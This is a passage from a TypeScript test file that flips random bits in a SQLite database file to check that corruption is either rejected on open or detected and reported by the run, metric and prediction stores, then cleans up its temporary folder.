      const content = Buffer.from(whole);
      const at = Math.floor(next() * content.length);
      const bit = 1 << Math.floor(next() * 8);
      content[at]! ^= bit;
      writeFileSync(path, content);
      const result = openDatabase(path);
      const where = `byte ${at} (page ${Math.floor(at / PAGE) + 1}, offset ${at % PAGE}), bit ${bit}`;
      if (!result.ok) {
        expect({ where, code: result.error.code }).toEqual({ where, code: 'newer-database' });
        continue;
      }
      const db = result.value;
      expect({ where, check: db.all('PRAGMA quick_check') }).toEqual({
        where,
        check: [{ quick_check: 'ok' }],
      });
      expect(new RunStore(db).list().length, where).toBeGreaterThanOrEqual(1);
      // SQLite sees nothing wrong where what is left is a possible number.
      if (db.notices.length === 0) {
        for (const [id, before] of numbers) {
          const metrics = new MetricStore(db);
          const isSame = isDeepStrictEqual(
            [fromColumns(metrics.steps(id, 0, 1e6)), metrics.epochs(id)],
            before,
          );
          if (!isSame) {
            expect(metrics.changedEpochs(id).length, where).toBeGreaterThan(0);
            silent++;
          }
          const kept = new PredictionStore(db).ofRun(id);
          const were = answers.get(id)!;
          expect(kept, where).toEqual(were.filter(({ epoch: of }) => kept.some((one) => one.epoch === of)));
          if (kept.length < were.length) {
            const told = db.raw((sqlite) => unreadableRows(sqlite, new Set(['predictions'])));
            expect(told, where).toHaveLength(1);
            silent++;
          }
        }
      }
      begun(db);
      db.close();
      for (const name of readdirSync(folder)) rmSync(join(folder, name), { recursive: true });
    }
    expect(silent).toBeGreaterThan(40);
  }, 60_000);
});
